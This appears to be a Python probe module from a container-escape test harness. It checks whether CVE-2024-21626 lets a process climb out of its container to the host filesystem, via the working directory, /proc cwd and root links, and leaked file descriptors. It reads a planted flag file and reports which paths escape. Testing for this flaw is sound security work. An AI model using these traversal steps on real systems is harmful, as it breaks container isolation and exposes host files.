# SPDX-License-Identifier: Apache-2.0
"""CVE-2024-21626: a descriptor or the working directory leads to a folder of the host's."""
import os

from run import FLAG, PLANTED


def climb(start):
    return PLANTED in open(start + "/../../../../../../../../.." + FLAG, "rb").read()


def attack(a):
    a.step("the working directory", climb, ".")
    root = os.stat("/")
    for who in ("self", "1"):
        for name in ("cwd", "root"):
            a.step(f"/proc/{who}/{name}", climb, f"/proc/{who}/{name}")
        found = []
        for fd in range(256):
            try:
                up = os.stat(f"/proc/{who}/fd/{fd}/../../../../../../../../../..")
            except OSError:
                continue
            if (up.st_dev, up.st_ino) != (root.st_dev, root.st_ino):
                found.append(fd)
        a.step(f"descriptors of {who} that climb out", lambda: found)
